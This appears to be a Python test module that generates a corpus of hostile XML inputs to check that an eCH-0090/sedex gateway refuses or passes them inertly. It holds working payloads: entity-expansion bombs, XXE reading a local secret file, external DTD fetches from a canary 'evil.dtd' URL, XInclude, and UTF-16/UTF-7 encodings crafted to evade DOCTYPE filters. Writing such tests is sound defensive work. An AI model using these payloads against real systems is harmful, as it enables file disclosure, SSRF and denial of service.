"""The hostile XML documents of the corpus, generated (no binary blobs in the repository).

Each case says what it attacks, where the idea comes from, and what must happen when it
arrives as an eCH-0090 envelope and as a payload. ``url`` is a loopback listener that counts
connections and ``secret`` a file whose content must never appear anywhere.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

REFUSED = "refused"  # 422 with sedex 200 (or 413 above the envelope limit), nothing stored
INERT = "inert"  # accepted and delivered byte for byte, nothing expanded or fetched
EMPTY = "empty"  # 422 with sedex 202 (no payload)


@dataclass(frozen=True)
class Canaries:
    url: str  # http://127.0.0.1:<port>/evil.dtd, counts connections
    secret: str  # absolute path of a file holding a unique secret


@dataclass(frozen=True)
class XmlCase:
    id: str
    build: Callable[[Canaries], bytes]
    attacks: str
    source: str
    payload: str = REFUSED  # outcome as a payload on a well-formed route
    reason: str = ""  # regex the refusal's statusInfo must match (as envelope and as payload)
    bug: str = ""  # set when the gateway does not yet treat it as a payload as expected (strict xfail)
    envelope_bug: str = ""  # the same, as an envelope


def _laughs(levels: int = 10, fan: int = 10) -> str:
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * fan}">' for i in range(1, levels))
    return f'<!DOCTYPE r [{entities}]><r>&a{levels - 1};</r>'


def _utf16(text: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")


DTD = r"document type"

CASES: list[XmlCase] = [
    XmlCase("billion-laughs", lambda c: _laughs().encode(), "entity expansion: 10^9 copies of 'lol'",
            "classic 'billion laughs' (CVE-2003-1564)", reason=DTD),
    XmlCase("billion-laughs-utf16", lambda c: _utf16(_laughs()), "entity expansion, hidden from byte-substring checks by UTF-16",
            "encoding confusion against '<!ENTITY' substring filters", reason=r"document type|amplification|not well-formed"),
    XmlCase("quadratic-blowup", lambda c: (f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]><r>{"&a;" * 20_000}</r>').encode(),
            "one 50 KB entity referenced 20 000 times (1 GB)", "quadratic blow-up (Amit Klein, 2008)", reason=DTD),
    XmlCase("xxe-file", lambda c: f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{c.secret}">]><r>&x;</r>'.encode(),
            "external entity reads a local file", "XXE, OWASP Top 10 2017 A4", reason=DTD),
    XmlCase("xxe-network", lambda c: f'<!DOCTYPE r [<!ENTITY x SYSTEM "{c.url}">]><r>&x;</r>'.encode(),
            "external entity makes the parser fetch a URL (SSRF)", "XXE/SSRF", reason=DTD),
    XmlCase("xxe-parameter-entity", lambda c: f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{c.url}"> %p;]><r/>'.encode(),
            "parameter entity pulls an external DTD (out-of-band XXE)", "OOB XXE via parameter entities", reason=DTD),
    XmlCase("external-dtd", lambda c: f'<!DOCTYPE r SYSTEM "{c.url}"><r/>'.encode(),
            "external DTD fetched by the parser", "DTD retrieval SSRF", reason=DTD),
    XmlCase("doctype-after-long-prolog", lambda c: (f'<?xml version="1.0"?><!--{"x" * 5000}--><!DOCTYPE r SYSTEM "{c.url}"><r/>').encode(),
            "DOCTYPE placed beyond the first 4096 bytes a quick check looks at", "filter evasion by position", reason=DTD),
    XmlCase("doctype-utf16", lambda c: _utf16(f'<!DOCTYPE r SYSTEM "{c.url}"><r/>'),
            "a DTD in UTF-16 (no ASCII '<!DOCTYPE' bytes) forwarded to the recipient's parser",
            "encoding confusion against substring filters (threat model F3, fixed)", reason=DTD),
    XmlCase("doctype-utf16-internal-subset", lambda c: _utf16(f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{c.secret}">]><r>&x;</r>'),
            "an XXE entity in UTF-16 forwarded to the recipient's parser", "encoding confusion + XXE (threat model F3, fixed)", reason=DTD),
    XmlCase("doctype-utf32", lambda c: '<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE r><r/>'.encode("utf-32"),
            "a DTD in UTF-32", "encoding confusion", reason=r"document type|not well-formed|encoding"),
    XmlCase("xinclude-file", lambda c: f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{c.secret}" parse="text"/></r>'.encode(),
            "XInclude pulls in a local file if the parser processes XInclude", "XInclude injection (OWASP XXE cheat sheet)",
            payload=INERT, reason=r"eCH-0090"),
    XmlCase("xsl-stylesheet-pi", lambda c: f'<?xml-stylesheet type="text/xsl" href="{c.url}"?><r/>'.encode(),
            "a processing instruction that makes XSLT-aware software fetch a stylesheet", "PI-driven SSRF",
            payload=INERT, reason=r"eCH-0090"),
    XmlCase("undefined-entity", lambda c: b"<r>&x;</r>", "an entity reference without declaration", "entity handling", reason=r"not well-formed|Entity"),
    XmlCase("deep-nesting", lambda c: b"<a>" * 100_000 + b"</a>" * 100_000, "100 000 nested elements (stack exhaustion)",
            "deeply nested XML (CVE-2016-3709 class)", reason=r"deep|depth"),
    XmlCase("nesting-just-over-limit", lambda c: b"<a>" * 65 + b"</a>" * 65, "one level deeper than the 64 allowed", "limit boundary",
            reason=r"deeper than 64"),
    XmlCase("huge-text-node", lambda c: b"<r>" + b"x" * 12_000_000 + b"</r>", "a 12 MB text node", "resource exhaustion",
            reason=r"larger|Text node too long|not well-formed"),
    XmlCase("huge-attribute", lambda c: b'<r a="' + b"x" * 12_000_000 + b'"/>', "a 12 MB attribute value", "resource exhaustion",
            reason=r"larger|no XML root|not well-formed"),
    XmlCase("huge-comment", lambda c: b"<r><!--" + b"x" * 12_000_000 + b"--></r>", "a 12 MB comment", "resource exhaustion",
            reason=r"larger|not well-formed"),
    XmlCase("many-namespaces", lambda c: b"<r " + b" ".join(b'xmlns:n%d="urn:n:%d"' % (i, i) for i in range(10_000)) + b"/>",
            "10 000 namespace declarations on one element", "namespace-table exhaustion", payload=INERT, reason=r"eCH-0090"),
    XmlCase("many-attributes", lambda c: b"<r " + b" ".join(b'a%d="x"' % i for i in range(10_000)) + b"/>",
            "10 000 attributes on one element (hash collisions / quadratic duplicate check)", "attribute flooding",
            payload=INERT, reason=r"eCH-0090"),
    XmlCase("duplicate-attribute", lambda c: b'<r a="1" a="2"/>', "the same attribute twice (parser differential)", "XML 1.0 WFC",
            reason=r"not well-formed"),
    XmlCase("invalid-utf8", lambda c: b"<r>\xff\xfe\xc3</r>", "bytes that are not UTF-8", "encoding confusion", reason=r"not well-formed"),
    XmlCase("utf7", lambda c: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-r+AD4-+ADw-/r+AD4-', "markup hidden in UTF-7 (refused: "
            "UTF-7 is outside the accepted encodings)", "UTF-7 XSS-style filter evasion", reason=r"encoding"),
    XmlCase("doctype-utf7", lambda c: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r SYSTEM +ACI-' + c.url.encode()
            + b'+ACIAPgA8-r/+AD4-', "a DTD spelled in UTF-7 (no '<!DOCTYPE' bytes at all)", "UTF-7 filter evasion (threat model F3, fixed)",
            reason=r"document type|encoding"),
    XmlCase("ebcdic", lambda c: '<?xml version="1.0" encoding="IBM037"?><r/>'.encode("cp037"), "an EBCDIC document",
            "encoding confusion", reason=r"not well-formed|encoding"),
    XmlCase("nul-character-reference", lambda c: b"<r>&#0;</r>", "a character reference to U+0000", "XML 1.0 Char production",
            reason=r"not well-formed"),
    XmlCase("unterminated-cdata", lambda c: b"<r><![CDATA[ never ends", "a CDATA section without end", "truncation", reason=r"not well-formed"),
    XmlCase("undeclared-namespace-prefix", lambda c: b"<ns2:r><ns2:a>x</ns2:a></ns2:r>", "an element prefix without a namespace "
            "declaration (a common mistake of register software)", "found by test_fuzz.py::test_fuzz_payload_check (threat model F17, fixed)",
            reason=r"not well-formed|Namespace"),
    XmlCase("two-roots", lambda c: b"<r/><r/>", "two root elements (parser differential)", "XML 1.0 WFC", reason=r"not well-formed"),
    XmlCase("empty", lambda c: b"", "nothing at all", "sedex 202 'no payload'", payload=EMPTY, reason=r"empty|not well-formed|no payload"),
]
